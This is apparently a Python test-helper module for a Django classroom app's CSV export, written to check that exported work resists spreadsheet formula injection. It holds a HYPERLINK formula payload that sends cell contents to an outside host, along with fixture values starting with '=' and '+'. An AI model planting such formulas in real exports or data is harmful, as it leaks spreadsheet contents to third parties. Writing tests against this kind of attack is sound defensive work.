"""Work that is exported, and files as a reader of CSV sees them."""

from __future__ import annotations

import csv
import io

from django.test import Client
from django.urls import reverse

from lessons.classroom.history import ChangeKind
from lessons.classroom.models import Attempt, Change
from lessons.course.loader import all_exercises

HOSTILE = '=HYPERLINK("https://example.org/?"&A1,"Alice")'
FIRST, SECOND, THIRD = (exercise.id for exercise in all_exercises()[:3])
TITLE = {exercise.id: exercise.title for exercise in all_exercises()}
COLUMN = {exercise.id: f"{exercise.title} ({exercise.id})" for exercise in all_exercises()}


def export(client: Client, classroom, name: str, **query):
    return client.get(reverse("export", args=[classroom.klass.slug, name]), query)


def rows_of(answer) -> list[list[str]]:
    assert answer.status_code == 200, answer.content
    return list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"), newline=""), strict=True))


def judge(member, exercise: str, state: str = "done") -> Attempt:
    return Attempt.objects.create(
        member=member, exercise=exercise, state=state, verdict={"seen": "=It is so."}, check_hash="0" * 64
    )


def decide(classroom, exercise: str, points: float) -> None:
    data = {"exercise": exercise, "state": "done", "points": points, "reason": "+1 for trying"}
    Change.objects.create(
        klass=classroom.klass, by=classroom.greta, seat=classroom.alice, kind=ChangeKind.OVERRIDE, data=data
    )


def called(member, name: str, external_id: str = "") -> None:
    type(member).objects.filter(pk=member.pk).update(name=name, external_id=external_id)
